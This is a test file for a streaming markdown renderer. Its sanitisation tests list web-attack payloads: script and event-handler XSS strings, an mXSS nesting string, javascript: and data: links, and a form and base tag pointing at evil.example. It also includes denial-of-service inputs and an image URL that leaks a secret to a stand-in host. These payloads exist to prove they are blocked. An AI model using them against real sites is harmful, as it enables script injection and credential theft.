// @vitest-environment jsdom
import { describe, expect, test } from 'vitest';
import { en } from '../src/i18n/en';
import { followFootnote } from '../src/markdown/footnotes';
import { createMarkdownView, type MarkdownOptions } from '../src/markdown/markdown-view';
import { createParser } from '../src/markdown/parser';
import { showImage } from '../src/markdown/remote-images';

const options: MarkdownOptions = {
  words: en,
  remoteImages: 'ask',
  parser: createParser({ lineBreaks: true, formulas: undefined }),
};

const corpus: Record<string, string> = {
  chinese: '因为它把**同样**的子问题算了\n指数次。\n\n- 第一,*测量*\n- 第二\n\n## 标题\n\n好的 `code` 🇫🇷 ok',
  table: 'Before\n\n| a | b |\n|--:|:-:|\n| 1 | **x** |\n| 2 | `y` |\n\nAfter | not a table\n',
  lists:
    '1. one\n   - a\n   - b\n\n     more of b\n2. two\n\n   paragraph\n\n3. three\n\nend\n\n- [x] done\n- [ ] not\n',
  numbers: '- a\n\n- b\n\n1. c\n\n2. d\n\ntext\n---\n\nsetext\n===\n',
  fences:
    'Look:\n\n```python\ndef f():\n\n    return "```"\n```\n\n~~~\n# no heading\n~~~\n\n    indented\n\n    code\n\ndone',
  math: 'Let $x^2$ and \\(y\\):\n\n$$\n\\frac{a}{b}\n- c\n$$\n\nand \\[ z \\] but $5 or $10.\n\n`$no$`\n',
  quotes: '> one\n> two\nlazy\n\n> > nested\n\n***\n\nhttps://example.org/a_b_c and [link](https://example.org "t")\n',
  html: 'a <b>bold</b> <think>hm</think>\n\n<details>\n<summary>S</summary>\n\nhidden **text**\n\n</details>\n\nend\n',
  references:
    'See [one] and [two][2].\n\nMore text.\n\n[one]: https://example.org/1\n[2]: https://example.org/2\n\nLast [one].\n',
  footnotes:
    'One[^b] and two[^a], one again[^b].\n\n- in a list[^c]\n\n[^a]: First *words*\nwith more.\n[^b]: Second.\n\n    A paragraph of it.\n\n[^c]: Third.\n\nEnd[^d].\n',
  returns: 'one\r\ntwo\r\n\r\n- a\r\n- b\r\n',
};

function render(text: string): string {
  const container = document.createElement('div');
  createMarkdownView(container, options).update(text, true);
  return container.innerHTML;
}

function random(seed: number): () => number {
  let state = seed;
  return () => (state = (state * 48271) % 2147483647) / 2147483647;
}

describe('text that streams in looks in the end like text that came at once', () => {
  test.each(Object.keys(corpus))('%s', (name) => {
    const text = corpus[name] ?? '';
    for (let seed = 1; seed <= 5; seed++) {
      const next = random(seed * 7919);
      const container = document.createElement('div');
      const view = createMarkdownView(container, options);
      for (let at = 0; at < text.length; at += Math.ceil(next() * (seed === 1 ? 3 : 20)))
        view.update(text.slice(0, at), false);
      view.update(text, true);

      expect(container.innerHTML).toBe(render(text));
    }
  });
});

test('a closed block is the same element for ever', () => {
  const container = document.createElement('div');
  const view = createMarkdownView(container, options);
  view.update('First.\n\nSecond.\n\nThi', false);
  const [first] = container.children;
  view.update('First.\n\nSecond.\n\nThird.\n\nFourth', false);

  expect(container.children[0]).toBe(first);
  expect(container.children).toHaveLength(4);
});

test('the text node that grows is the same while it grows', () => {
  const container = document.createElement('div');
  const view = createMarkdownView(container, options);
  view.update('Hel', false);
  const node = container.firstChild?.firstChild;
  view.update('Hello wor', false);

  expect(container.firstChild?.firstChild).toBe(node);
  expect(container.textContent).toBe('Hello wor');
});

test('replaced text replaces what was frozen', () => {
  const container = document.createElement('div');
  const view = createMarkdownView(container, options);
  view.update('Old one.\n\nOld two.\n\nOld', false);
  view.update('New.', false);

  expect(container.textContent).toBe('New.');
});

test.each([
  ['some **bold', '<strong>bold</strong>'],
  ['some `code', '<code>code</code>'],
  ['a [link](https://exam', 'a link'],
  ['```js\nlet x', '<code>let x'],
])('unfinished %j looks finished while it streams', (text, html) => {
  const container = document.createElement('div');
  createMarkdownView(container, options).update(text, false);

  expect(container.innerHTML).toContain(html);
});

test('a single newline is a line break', () => {
  expect(render('a\nb')).toContain('<br>');
});

test('line breaks may be spaces', () => {
  const container = document.createElement('div');
  createMarkdownView(container, {
    ...options,
    parser: createParser({ lineBreaks: false, formulas: undefined }),
  }).update('a\nb', true);

  expect(container.innerHTML).not.toContain('<br>');
});

test('an author may say what encloses formulas', () => {
  const formulas = [
    { left: '@@', right: '@@', display: true },
    { left: '<<', right: '>>' },
  ];
  const container = document.createElement('div');
  const parser = createParser({ lineBreaks: true, formulas });
  createMarkdownView(container, { ...options, parser }).update('One @@x\ny@@, <<z>> and $a$.', true);

  expect([...container.querySelectorAll('.salon-math')].map((math) => math.getAttribute('data-display'))).toEqual([
    'true',
    null,
  ]);
  expect(container.textContent).toContain('$a$');
});

test.each(['It costs $5 or $10.', 'US$5 and US$6', '从$5涨到$10', '`$x$`', 'echo $HOME and $PATH'])(
  '%j holds no formula',
  (text) => {
    expect(render(text)).not.toContain('salon-math');
  },
);

test.each(['$x^2$', '\\(x\\)', '$$x$$', '\\[x\\]', '设 $n$ 为'])('%j holds a formula', (text) => {
  expect(render(text)).toContain('salon-math');
});

test('tags that we do not know are shown as text', () => {
  const container = document.createElement('div');
  createMarkdownView(container, options).update('<think>maybe</think>', true);

  expect(container.textContent).toContain('<think>maybe</think>');
});

describe('what allow_tags says of tags that are no HTML', () => {
  const text = 'Look: <tool>search</tool> and <think>hm</think>\n\n<plan>\nfirst\n</plan>\n\n<b>end</b>';
  const shown = (tags: boolean | string[]) => {
    const container = document.createElement('div');
    const parser = createParser({ lineBreaks: true, formulas: undefined, tags });
    createMarkdownView(container, { ...options, parser }).update(text, true);
    return container;
  };

  test('true shows them all', () => {
    expect(shown(true).textContent).toContain('<tool>search</tool> and <think>hm</think>');
  });

  test('a list shows these and leaves out the others, not what they hold', () => {
    const { textContent } = shown(['tool']);

    expect(textContent).toContain('<tool>search</tool> and hm');
    expect(textContent).toContain('first');
    expect(textContent).not.toContain('plan>');
  });

  test('false leaves them all out, and HTML stays what it is', () => {
    const container = shown(false);

    expect(container.textContent).toContain('Look: search and hm');
    expect(container.querySelector('b')?.textContent).toBe('end');
  });

  test.each([[true], [false], [['script', 'img']]])('%j lets nothing in that could run', (tags) => {
    const container = document.createElement('div');
    const parser = createParser({ lineBreaks: true, formulas: undefined, tags });
    const hostile =
      '<script>alert(1)</script>\n\n<x-y onclick=alert(1)>x</x-y> <img src=x onerror=alert(1)>\n\n<form><input></form>';
    createMarkdownView(container, { ...options, parser }).update(hostile, true);

    expect(container.querySelector('script, form, input, [onclick], [onerror], x-y')).toBeNull();
  });
});

describe('HTML in frames', () => {
  const rules = { lineBreaks: true, formulas: undefined };
  function framed() {
    const container = document.createElement('div');
    const shown: string[] = [];
    const frames = {
      parser: createParser({ ...rules, isRaw: true }),
      show: (place: HTMLElement, html: string) => {
        shown.push(html);
        place.append('filled');
      },
    };
    return { container, shown, view: createMarkdownView(container, { ...options, frames }) };
  }

  test('a block with styles goes into a frame as it is, its neighbours stay in the page', () => {
    const { container, shown, view } = framed();
    view.update('Before **it**.\n\n<p style="color:red">red <i>and</i></p>\n\nAfter.', true);

    expect(shown).toEqual([expect.stringContaining('<p style="color:red">red <i>and</i></p>')]);
    expect([...container.children].map(({ className }) => className)).toEqual(['', 'salon-html', '']);
    expect(container.querySelector('[style], i')).toBeNull();
  });

  test.each([
    '<script>run()</script>',
    '<form>\n\n<input>\n\n</form>',
    '<svg viewBox="0 0 1 1"><path d="M0 0"/></svg>',
    'a <button>b</button>',
  ])('%j is shown in one frame', (text) => {
    const { shown, view } = framed();
    view.update(text, true);

    expect(shown).toHaveLength(1);
    for (const tag of text.match(/<\w+/g) ?? []) expect(shown[0]).toContain(tag);
  });

  test.each(['a <b>bold</b> word', 'a <think>hm</think> word', '`<script>`', '```html\n<form>\n```'])(
    '%j needs no frame',
    (text) => {
      const { container, shown, view } = framed();
      view.update(text, true);

      expect(shown).toEqual([]);
      expect(container.innerHTML).toBe(render(text));
    },
  );

  test('what is still being written is sanitised in the page, and shown in a frame once, when its block ends', () => {
    const { container, shown, view } = framed();
    view.update('<p style="position:fixed">re', false);
    view.update('<p style="position:fixed">red</p>\n', false);
    expect(shown).toEqual([]);
    expect(container.querySelector('[style]')).toBeNull();
    view.update('<p style="position:fixed">red</p>\n\nAfter all.\n', false);
    const place = container.querySelector('.salon-html');
    view.update('<p style="position:fixed">red</p>\n\nAfter all.\n\nEnd', false);
    view.update('<p style="position:fixed">red</p>\n\nAfter all.\n\nEnd', true);

    expect(shown).toHaveLength(1);
    expect(container.querySelector('.salon-html')).toBe(place);
    expect(place?.textContent).toBe('filled');
  });
});

test('an image at another host is a link that names the host', () => {
  const html = render('![chart](https://elsewhere.example/x.png?data=secret)');

  expect(html).not.toContain('<img');
  expect(html).toContain('elsewhere.example');
});

test('an image at another host is loaded when the reader asks for it, and from then on', () => {
  const container = document.createElement('div');
  const source = '![chart](https://other.example/x.png)';
  createMarkdownView(container, options).update(source, true);
  const place = container.querySelector<HTMLAnchorElement>('a.salon-remote-image');
  expect(place?.title).toContain('other.example');
  if (place) showImage(place);

  expect(container.querySelector('img')?.getAttribute('src')).toBe('https://other.example/x.png');
  expect(render(source)).toContain('<img');
});

test.each([
  ['allow', 1],
  ['block', 0],
] as const)('with %s there are %i images of other hosts', (policy, count) => {
  const container = document.createElement('div');
  createMarkdownView(container, { ...options, remoteImages: policy }).update(
    '![chart](https://third.example/x.png)',
    true,
  );

  expect(container.querySelectorAll('img')).toHaveLength(count);
});

test('footnotes are numbered in the order in which the text refers to them', () => {
  const container = document.createElement('div');
  createMarkdownView(container, options).update('a[^x] b[^y] a[^x]\n\n[^y]: Why.\n[^x]: Ex.\n', true);
  const marks = [...container.querySelectorAll('.salon-footnote-mark')].map(({ textContent }) => textContent);
  const notes = [...container.querySelectorAll('.salon-footnote')].map(({ textContent }) => textContent?.trim());

  expect(marks).toEqual(['1', '2', '1']);
  expect(notes).toEqual(['2Why.', '1Ex.']);
});

test('a footnote mark leads to its text and back', () => {
  const container = document.createElement('div');
  container.className = 'salon-markdown';
  document.body.append(container);
  createMarkdownView(container, options).update('a[^x]\n\n[^x]: Ex.\n', true);
  const [mark, note] = container.querySelectorAll<HTMLElement>('.salon-footnote-button');
  HTMLElement.prototype.scrollIntoView = () => {};

  if (mark) followFootnote(mark);
  expect(document.activeElement).toBe(note);
  if (note) followFootnote(note);
  expect(document.activeElement).toBe(mark);
});

test.each(['salon-notices', 'hljs-x salon-notices', 'salon-code salon-app', 'mine'])(
  'a text cannot take the class %j',
  (name) => {
    const container = document.createElement('div');
    createMarkdownView(container, options).update(`<div class="${name}">x</div>`, true);

    expect(container.querySelector('.salon-notices, .salon-app, .mine')).toBeNull();
  },
);

test('links open elsewhere and tell nothing', () => {
  expect(render('[x](https://example.org)')).toMatch(/target="_blank"[^>]*rel="noopener noreferrer nofollow"/);
});

describe('hostile text', () => {
  const forbidden =
    'script,style,iframe,object,embed,form,input,base,link,meta,svg,template,[onerror],[onclick],[onload],[ontoggle],[onfocus],[srcset],[style],[id],[name]';
  test.each([
    '<script>alert(1)</script>',
    '<img src=x onerror=alert(1)>',
    '<svg/onload=alert(1)>',
    '<style>*{display:none}</style>',
    '<p style="position:fixed;inset:0" id=x class=salon-app>login</p>',
    '<iframe srcdoc="<script>parent.x=1</script>"></iframe>',
    '<img srcset="https://evil.example/a 1x">',
    '<base href=//evil.example/>',
    '<form action=//evil.example><input name=password></form>',
    '<details open ontoggle=alert(1)>x</details>',
    '<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=alert(1) src>">',
    '<x-foo onclick=alert(1)>x</x-foo>',
    '<template><img src=x onerror=alert(1)></template>',
    '![x](x" onerror="alert(1))',
    '$$<img src=x onerror=alert(1)>$$',
    '```html\n<script>alert(1)</script>\n```',
    '```"onclick=alert(1)\nx\n```',
  ])('%j brings in no forbidden element or attribute', (text) => {
    const container = document.createElement('div');
    createMarkdownView(container, options).update(text, true);

    expect([...container.querySelectorAll(forbidden)]).toEqual([]);
    expect(container.querySelector('.salon-app')).toBeNull();
  });

  test.each([
    '[x](javascript:alert(1))',
    '[x](JaVa\tScRiPt:alert(1))',
    '[x](data:text/html;base64,PHM+)',
    '<a href="vbscript:x">x</a>',
    '<a href=" &#1;javascript:alert(1)">x</a>',
  ])('%j is no link', (text) => {
    expect(render(text)).not.toMatch(/href="(?!https?:)/);
  });

  test.each([
    `${'*'.repeat(50_000)}a${'*'.repeat(50_000)}`,
    `${'> '.repeat(5000)}x`,
    '['.repeat(20_000),
    '<'.repeat(20_000),
  ])('number %# is shown in time', { timeout: 30_000 }, (text) => {
    expect(render(text)).not.toBe('');
  });
});
